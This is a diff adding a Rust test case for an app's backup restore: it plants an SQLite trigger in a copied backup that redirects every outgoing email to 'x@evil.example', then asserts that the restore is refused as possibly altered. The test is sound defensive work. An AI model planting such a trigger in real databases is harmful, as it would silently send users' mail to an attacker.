@@ -130,6 +130,33 @@ async fn a_backup_taken_while_clients_write_restores_into_a_working_practice() {
         text(&refused.stderr)
     );
 
+    // A backup someone changed so that the app would run their code (here: a trigger that
+    // sends every email to them) is refused, and nothing is written (security N10).
+    let altered = app.dir().join("altered.db");
+    std::fs::copy(&file, &altered).expect("copy");
+    {
+        use sqlx::Connection as _;
+        let mut copy = sqlx::SqliteConnection::connect(&sqlite_url(&altered))
+            .await
+            .expect("open the copy");
+        sqlx::query(
+            "create trigger redirect after insert on outbox begin \
+             update outbox set recipient = 'x@evil.example' where id = new.id; end",
+        )
+        .execute(&mut copy)
+        .await
+        .expect("add a trigger");
+        copy.close().await.expect("close");
+    }
+    let refused = cli(&target, &["restore", altered.to_str().expect("path")]).await;
+    assert!(!refused.status.success());
+    assert!(
+        text(&refused.stderr).contains("may have been altered"),
+        "{}",
+        text(&refused.stderr)
+    );
+    assert!(!app.dir().join("restored").join("practice.db").exists());
+
     // A backup is sealed with the practice's data key: without it, nothing is restored.
     let keyless = cli(&target, &["restore", file.to_str().expect("path")]).await;
     assert!(!keyless.status.success());
